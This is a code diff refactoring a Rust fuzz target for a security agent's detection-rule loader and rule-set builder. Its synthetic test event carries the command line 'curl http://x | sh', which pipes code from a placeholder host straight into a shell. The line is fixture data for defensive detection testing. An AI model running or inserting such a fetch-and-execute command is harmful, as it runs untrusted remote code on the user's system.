@@ -4,7 +4,7 @@
 use std::path::Path;
 
 use aurora_agent::detect::logsource::LogsourceMap;
-use aurora_agent::detect::rules::{load_text, AlertLevel};
+use aurora_agent::detect::rules::{load_text, AlertLevel, LoadOptions, LoadedRule};
 use aurora_agent::detect::ruleset::RuleSet;
 use aurora_agent::event::{names as f, Event, EventKind};
 use libfuzzer_sys::fuzz_target;
@@ -19,12 +19,19 @@ fuzz_target!(|data: &[u8]| {
         Path::new("fuzz.yml"),
         text,
         &map,
-        AlertLevel::Informational,
-        true,
+        &LoadOptions {
+            min_level: AlertLevel::Informational,
+            collected: None,
+            threads: 1,
+            defer_compile: false,
+        },
         &mut entries,
     );
-    let rules: Vec<_> = entries.iter().filter_map(|e| e.rule.as_ref()).collect();
-    let (mut set, _) = RuleSet::compile(rules.into_iter().enumerate(), 1);
+    let rules = entries.into_iter().filter_map(|e| match e.rule {
+        Some(LoadedRule::Compiled(c)) => Some(*c),
+        _ => None,
+    });
+    let mut set = RuleSet::build(rules.enumerate().collect());
     let mut ev = Event::new(EventKind::ProcessCreation);
     ev.push_str(f::IMAGE, "/usr/bin/bash");
     ev.push_str(f::COMMAND_LINE, "bash -c 'curl http://x | sh'");
